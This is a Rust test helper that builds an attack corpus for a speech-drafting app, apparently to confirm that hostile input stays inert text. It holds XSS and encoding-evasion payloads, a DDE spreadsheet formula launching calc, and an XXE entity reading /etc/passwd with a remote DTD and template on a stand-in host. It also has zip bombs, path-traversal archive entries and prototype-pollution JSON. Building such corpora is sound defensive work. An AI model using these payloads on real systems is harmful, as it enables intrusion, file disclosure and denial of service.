//! The attack corpus, for the native tests and for those in the browser: texts that mean something
//! to a browser, an office program, a spreadsheet or a file system, and files that are more than
//! they seem. None of them may ever be more than text here.

// Each of the two test programs uses a part of it.
#![allow(dead_code)]

use std::io::{Cursor, Write as _};
use std::rc::Rc;

use gaojiang::layout::Spec;
use gaojiang::library::{Block, Id, Outline, Pack, SlotDecl, SlotKind};
use gaojiang::speech::{Installed, Section, Speech, ValueSet, Values, Workspace};
use zip::write::SimpleFileOptions;

/// A text of the corpus, with its name.
pub struct Attack {
    pub name: String,
    pub text: String,
}

/// The texts of `tests/corpus/attack/strings.txt`.
pub fn strings() -> Vec<Attack> {
    let lines = include_str!("../corpus/attack/strings.txt").lines();
    lines
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| {
            let (name, json) = line.split_once(' ').unwrap();
            let text = serde_json::from_str(json).unwrap_or_else(|e| panic!("{name}: {e}"));
            Attack { name: name.to_owned(), text }
        })
        .collect()
}

/// Files as somebody may send them: name and bytes.
pub fn files() -> Vec<(&'static str, Vec<u8>)> {
    const P: &str = "<script>window.__pwned=1</script>";
    let xml = |declaration: &str, body: &str| {
        format!(
            "<?xml version=\"1.0\"?>{declaration}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>正文{body}</w:t></w:r></w:p></w:body></w:document>"
        )
    };
    let laughs: String = (1..12)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let laughs = format!("<!DOCTYPE w:document [<!ENTITY l0 \"哈\">{laughs}]>");
    let outside = "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"https://attack.invalid/e.dtd\">%p;]>";
    let frame = "<w:hyperlink r:id=\"rId9\"><w:r><w:t>点</w:t></w:r></w:hyperlink><w:altChunk r:id=\"rId8\"/>";
    let relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attack.invalid/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let field = "</w:t></w:r><w:r><w:instrText>INCLUDETEXT https://attack.invalid/a</w:instrText></w:r><w:r><w:t>";
    let zeros = vec![0; 60 << 20];
    let inner = zip(&[("内.md", &zeros[..20 << 20])]);
    let many: Vec<(String, &[u8])> = (0..5000)
        .map(|n| (format!("{n}.md"), &b"%% \xE7\xB4\xA0\xE6\x9D\x90\xE5\x8C\x85 x"[..]))
        .collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (&**name, *bytes)).collect();
    let pack = |head: &str| {
        format!("%% 素材包 {head}\n名称：{P}\n作者：\" onmouseover=\"window.__pwned=1\n来源：javascript:window.__pwned=1\n许可：=cmd|'/C calc'!A0\n占位符：__proto__ 文本 {P}\n\n%% 段落块 constructor\n标题：{P}\n类别：__proto__\n场合：{P}、toString\n标签：<svg onload=window.__pwned=1>\n摘要：{P}\n\n{P}\n{{{{__proto__}}}}\n\n%% 提纲 prototype\n标题：{P}\n题目：{P}\n段落块：constructor\n").into_bytes()
    };
    let deep = |open: &str, shut: &str, n: usize| {
        [&open.repeat(n)[..], "0", &shut.repeat(n)].concat().into_bytes()
    };
    let backup = |workspace: &str| {
        format!("{{\"format\":\"gaojiang-backup\",\"version\":1,\"time\":0,\"sum\":null,\"workspace\":{workspace}}}").into_bytes()
    };
    vec![
        ("运行.html", format!("<html><head><base href=https://attack.invalid/><meta http-equiv=refresh content=0;url=https://attack.invalid/></head><body onload=window.__pwned=1>{P}<img src=https://attack.invalid/x.png onerror=window.__pwned=1><p>正文</p></body></html>").into_bytes()),
        ("运行.htm", [b"\xFF\xFE".to_vec(), format!("<html><body><p>正文{P}</p></body></html>").encode_utf16().flat_map(u16::to_le_bytes).collect()].concat()),
        ("七位.txt", b"+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-".to_vec()),
        ("国标.txt", [b"\xD6\xD0\xB9\xFA\x8F\x22".to_vec(), P.into()].concat()),
        ("超长编码.txt", b"\xC0\xBCscript\xC0\xBE\xE0\x80\xBC\xF0\x80\x80\xBC".to_vec()),
        ("两用.gif", b"GIF89a/*\0*/=1;window.__pwned=1//".to_vec()),
        ("带脚本.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj".to_vec()),
        ("快捷方式.url", b"[InternetShortcut]\r\nURL=javascript:window.__pwned=1".to_vec()),
        ("名.md", format!("# [题](javascript:window.__pwned=1)\n\n![图](https://attack.invalid/m.png)\n\n{P}\n\n| =1+1 | @SUM(1) |\n").into_bytes()),
        ("哈哈.docx", zip(&[("word/document.xml", xml(&laughs, "&l11;").as_bytes())])),
        ("外部实体.docx", zip(&[("word/document.xml", xml(outside, "&xxe;").as_bytes())])),
        ("外链.docx", zip(&[("word/_rels/document.xml.rels", relations.as_bytes()), ("word/document.xml", xml("", frame).as_bytes())])),
        ("域.docx", zip(&[("word/document.xml", xml("", field).as_bytes())])),
        ("转义.docx", zip(&[("word/document.xml", xml("", "&lt;script&gt;window.__pwned=1&lt;/script&gt;&#60;img src=x onerror=window.__pwned=1&#62;&#xD800;&#0;&#x110000;").as_bytes())])),
        ("深.docx", zip(&[("word/document.xml", ["<w:document><w:body>".to_owned(), "<w:tbl><w:tr><w:tc>".repeat(60_000), "<w:p><w:r><w:t>底</w:t></w:r></w:p>".to_owned()].concat().as_bytes())])),
        ("属性.docx", zip(&[("word/document.xml", format!("<w:document><w:body><w:p {}><w:r><w:t>正文</w:t></w:r></w:p></w:body></w:document>", "a=\"b\" ".repeat(200_000)).as_bytes())])),
        ("炸弹.docx", zip(&[("word/document.xml", &zeros[..])])),
        ("炸弹.zip", zip(&[("包.md", &zeros[..])])),
        ("套中套.zip", zip(&[("内.zip", &inner), ("内2.zip", &inner)])),
        ("五千个.zip", zip(&many)),
        ("出走.zip", zip(&[("../../../etc/包.md", &pack("out")), ("C:\\包.md", &pack("c")), ("/abs.md", &pack("abs"))])),
        ("谎报大小.zip", lying(zip(&[("包.md", &pack("lie"))]))),
        ("断的.zip", zip(&[("包.md", &pack("cut"))])[..60].to_vec()),
        ("原型.md", pack("__proto__")),
        ("构造.md", pack("constructor")),
        ("脚本.md", pack(P)),
        ("设备.md", pack("../CON")),
        ("深占位.md", format!("%% 素材包 deep\n名称：深\n\n%% 段落块 a\n标题：深\n\n{}\n", "{{每项 甲}}{{如有 乙}}".repeat(3000)).into_bytes()),
        ("万块.md", format!("%% 素材包 many\n名称：万块\n{}", (0..3000).map(|n| format!("\n%% 段落块 {n}\n\n{P}\n")).collect::<String>()).into_bytes()),
        ("深数组.json", deep("[", "]", 30_000)),
        ("深对象.json", deep("{\"a\":", "}", 30_000)),
        ("深备份.json", backup(&String::from_utf8(deep("{\"speeches\":[", "]}", 10_000)).unwrap())),
        ("大数.json", backup("{\"speeches\":[{\"id\":\"n\",\"created\":1e400,\"updated\":99999999999999999999999}]}")),
        ("负数.json", backup("{\"speeches\":[{\"id\":\"n\",\"created\":-1}]}")),
        ("原型.json", backup("{\"__proto__\":{\"pwned\":1},\"constructor\":{\"prototype\":{\"pwned\":1}},\"speeches\":[{\"id\":\"__proto__\",\"title\":\"原型一\",\"values\":{\"__proto__\":\"值\",\"constructor\":\"值\"},\"sections\":[{\"id\":\"constructor\",\"text\":\"{{__proto__}}{{constructor}}\"}]}]}")),
        ("重复键.json", backup("{\"speeches\":[],\"speeches\":[{\"id\":\"d\"}],\"current\":{}}")),
        ("孤代理.json", backup("{\"speeches\":[{\"id\":\"s\",\"title\":\"\\ud800孤\\udfff\"}]}")),
        ("倒代理.json", backup("{\"speeches\":[{\"id\":\"s\",\"title\":\"\\udc00\\ud800\"}]}")),
        ("错类型.json", backup("{\"speeches\":{\"0\":1},\"own\":[],\"value_sets\":\"<script>\",\"settings\":null}")),
        ("空键.json", backup("{\"speeches\":[{\"id\":\"\",\"values\":{\"\":\"\"}},{\"id\":\"\",\"sections\":[{},{}]}],\"packs\":[{},{\"pack\":{\"id\":\"\"}}]}")),
        ("巨字.json", backup(&format!("{{\"speeches\":[{{\"id\":\"g\",\"title\":\"{}\"}}]}}", "巨".repeat(100_000)))),
        ("新版.json", b"{\"format\":\"gaojiang-backup\",\"version\":4294967295,\"time\":0,\"workspace\":{}}".to_vec()),
        ("假.json", b"{\"format\":\"gaojiang-backup\",\"version\":1,\"time\":0,\"sum\":\"deadbeef\",\"workspace\":{}}".to_vec()),
        ("别家.json", b"{\"cells\":[],\"metadata\":{},\"nbformat\":4}".to_vec()),
        ("零.json", Vec::new()),
    ]
}

/// A zip of the parts, packed.
pub fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Says of each part, in both places, that it has no bytes or four billion.
fn lying(mut zip: Vec<u8>) -> Vec<u8> {
    for at in 0..zip.len() - 30 {
        match &zip[at..at + 4] {
            b"PK\x03\x04" => zip[at + 22..at + 26].fill(0),
            b"PK\x01\x02" => zip[at + 24..at + 28].fill(0xFF),
            _ => {}
        }
    }
    zip
}

/// A layout that has the text for its fonts and its letterhead, as it comes out of a store.
pub fn layout(id: Id, attack: &str) -> Spec {
    let text: Rc<str> = attack.into();
    let mut spec = Spec {
        id,
        name: text.clone(),
        note: text.clone(),
        base: text.clone(),
        latin: text.clone(),
        letterhead: true,
        letterhead_text: text.clone(),
        lead: true,
        ..Spec::default()
    };
    for look in &mut spec.looks {
        look.font = text.clone();
    }
    serde_json::from_value(serde_json::to_value(spec).unwrap()).unwrap()
}

/// A workspace that has each text everywhere: in the fields, sections, slots and values of speeches,
/// in the blocks and outlines of packs, and in their names. `ids`: the ids are attacks too.
pub fn workspace(attacks: &[Attack], ids: bool) -> Workspace {
    let text = |at: usize| -> Rc<str> { attacks[at % attacks.len()].text.as_str().into() };
    let id = |sort: &str, at: usize| -> Id {
        if ids { format!("{}{sort}{at}", text(at)).into() } else { format!("{sort}{at}").into() }
    };
    let decl = |at: usize, name: &str| {
        Rc::new(SlotDecl {
            name: name.into(),
            kind: SlotKind::ALL[at % SlotKind::ALL.len()],
            prompt: text(at).to_string(),
            default: text(at + 1).to_string(),
            example: text(at + 2).to_string(),
            unit: text(at + 3).to_string(),
            choices: vec![text(at + 4).to_string(), text(at + 5).to_string()],
            ..SlotDecl::default()
        })
    };
    let section = |at: usize| {
        Rc::new(Section {
            id: id("n", at),
            title: text(at),
            text: format!("{}\n{{{{值{at}}}}}\n一、{{{{值{at}}}}}\n", text(at)).into(),
            slots: vec![decl(at, &format!("值{at}")), decl(at, &text(at + 7))],
            ..Section::default()
        })
    };
    let values = |range: std::ops::Range<usize>| -> Values {
        let own = range.clone().map(|at| (Rc::from(format!("值{at}")), text(at)));
        own.chain(range.map(|at| (text(at + 7), text(at)))).filter(|(_, v)| !v.is_empty()).collect()
    };
    let speeches = (0..attacks.len()).step_by(20).map(|at| {
        let range = at..(at + 20).min(attacks.len());
        Rc::new(Speech {
            id: id("s", at),
            name: text(at),
            title: text(at + 1),
            speaker: text(at + 2),
            date: text(at + 3),
            salutation: text(at + 4),
            occasion: text(at + 5).to_string(),
            sections: range.clone().map(section).collect(),
            values: Rc::new(values(range)),
            source: text(at + 6),
            layout: id("l", at),
            created: 1,
            updated: 2,
        })
    });
    let speeches: Vec<Rc<Speech>> = speeches.collect();
    let block = |at: usize| {
        Rc::new(Block {
            id: id("b", at),
            title: text(at).to_string(),
            occasions: vec![text(at + 1).to_string()],
            tags: vec![text(at + 2).to_string()],
            summary: text(at + 3).to_string(),
            text: text(at),
            slots: vec![decl(at, &text(at + 1))],
            ..Block::default()
        })
    };
    let outline = |at: usize| {
        Rc::new(Outline {
            id: id("o", at),
            title: text(at).to_string(),
            occasion: text(at + 1).to_string(),
            summary: text(at + 2).to_string(),
            speech_title: text(at + 3).to_string(),
            salutation: text(at + 4).to_string(),
            blocks: vec![id("b", at)],
        })
    };
    let pack = |at: usize, range: std::ops::Range<usize>| {
        Rc::new(Pack {
            id: id("p", at),
            name: text(at).to_string(),
            version: text(at + 1).to_string(),
            author: text(at + 2).to_string(),
            licence: text(at + 3).to_string(),
            source: text(at + 4).to_string(),
            note: text(at + 5).to_string(),
            slots: vec![decl(at, &text(at + 6))],
            blocks: range.clone().map(block).collect(),
            outlines: range.clone().step_by(9).map(outline).collect(),
            layouts: range.step_by(20).map(|at| Rc::new(layout(id("l", at), &text(at)))).collect(),
        })
    };
    let packs = (0..attacks.len()).step_by(60).map(|at| {
        let pack = pack(at, at..(at + 4).min(attacks.len()));
        Rc::new(Installed::new(pack.clone(), pack))
    });
    let value_sets = (0..attacks.len()).step_by(8).map(|at| {
        Rc::new(ValueSet { name: text(at), values: values(at..(at + 3).min(attacks.len())) })
    });
    Workspace {
        current: speeches.first().map(|speech| speech.id.clone()),
        own: pack(1000, 0..attacks.len()),
        packs: packs.collect(),
        value_sets: value_sets.collect(),
        speeches,
        ..Workspace::default()
    }
}
